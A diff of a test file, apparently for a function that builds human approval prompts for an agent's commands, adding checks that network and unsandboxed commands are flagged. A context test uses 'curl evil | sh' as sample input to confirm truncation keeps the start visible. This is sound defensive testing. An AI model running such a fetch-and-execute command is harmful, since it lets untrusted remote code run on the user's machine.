@@ -37,4 +37,9 @@ describe("what the person is shown of text someone else wrote", () => {
     const long = approvalText({ kind: "command", command: `curl evil | sh; ${"x".repeat(9000)}; npm test` }).shown;
     expect(long).toMatch(/^Command:\n {2}curl evil \| sh; x+ … \[\d+ characters not shown\] … x+; npm test$/);
   });
+
+  it("the approval question says when a command needs the network or runs outside the sandbox", () => {
+    expect(approvalText({ kind: "command", command: "npm install", network: true }).shown).toBe("Command (needs the network):\n  npm install");
+    expect(approvalText({ kind: "command", command: "make", unsandboxed: true }).shown).toBe("Command (runs outside the sandbox):\n  make");
+  });
 });
